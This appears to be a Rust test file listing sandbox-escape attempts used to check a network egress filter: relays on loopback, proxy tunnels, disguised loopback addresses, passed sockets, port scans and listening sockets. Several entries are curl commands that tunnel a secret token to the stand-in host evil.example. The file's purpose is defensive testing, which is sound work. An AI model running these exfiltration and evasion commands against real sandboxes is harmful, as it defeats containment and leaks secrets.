//! Others on the same machine: a page, a relay, a friend; and being one who is found.

use crate::internet::programs::Program::{Curl, Node, Own};
use crate::internet::trick::Proof::{Arrives, ArrivesAfter, Secret};
use crate::internet::trick::{Trick, tricks};

pub(super) fn tricks() -> Vec<Trick> {
    tricks! {
        // 3: somebody else's relay.
        3 "relay on loopback" Own ["streams.relay", "127.0.0.1", "3128", "evil.example:80"] Secret("evil.example");
        3 "relay on loopback, as a proxy" Curl ["--proxytunnel", "--proxy", "http://127.0.0.1:3128", "https://evil.example/{token}"] Secret("evil.example");
        3 "relay at an allowed name" Own ["streams.relay", "93.184.216.40", "8080", "evil.example:80"] Secret("evil.example");
        3 "relay at an allowed name that is told so" Own ["streams.relay", "93.184.216.40", "8080", "evil.example:80", "proxy.shop.example"] Secret("evil.example");
        3 "relay at an allowed name, as a proxy" Curl ["--proxytunnel", "--proxy", "http://proxy.shop.example:8080", "https://evil.example/{token}"] Secret("evil.example");
        // 5 and 3: services of this machine.
        5 "service on loopback" Curl ["http://127.0.0.1:8500/{token}"] Secret("loopback");
        5 "service on loopback by its name" Node ["get", "http://localhost:80/{token}"] Secret("loopback");
        5 "service on loopback by IPv6" Curl ["http://[::1]/{token}"] Secret("loopback");
        5 "service on loopback as address zero" Curl ["http://0.0.0.0:8500/{token}"] Secret("loopback");
        5 "service on loopback as the unspecified address" Curl ["http://[::]/{token}"] Secret("loopback");
        5 "service on loopback, written shortly" Curl ["http://127.1:8500/{token}"] Secret("loopback");
        5 "service on loopback in IPv6 form" Curl ["http://[::ffff:127.0.0.1]:8500/{token}"] Secret("loopback");
        5 "every port of loopback, doors included" Own ["streams.scan", "1024", "65536", "evil.example"] Secret("loopback");
        // 17: what was opened by somebody else.
        17 "connection passed by a friend (SCM_RIGHTS)" Own ["streams.passed", "{friend}", "{token}"] Secret("stream");
        // What a tool may reach is closed when no call of it is in flight.
        1 "domain of a tool, in a call of another one" Curl ["http://tool.shop.example/{token}"] Secret("tool.shop.example");
        1 "address of a tool's domain, in a call of another one" Own ["tls.page", "93.184.216.42", "443", "tool.shop.example", "tool.shop.example"] Secret("tool.shop.example");
        1 "domain of a tool, when its call is over" Own ["streams.later", "tool.shop.example", "80", "{token}", "1"] ArrivesAfter(1), in_call(), alone();
        1 "connection of a tool's call, when it is over" Own ["streams.held", "tool.shop.example", "80", "{token}", "1"] ArrivesAfter(1), in_call(), alone();
        // Being found instead of going out.
        1 "listening for whoever comes" Own ["streams.offer", "4000", "{token}"] Arrives;
    }
}
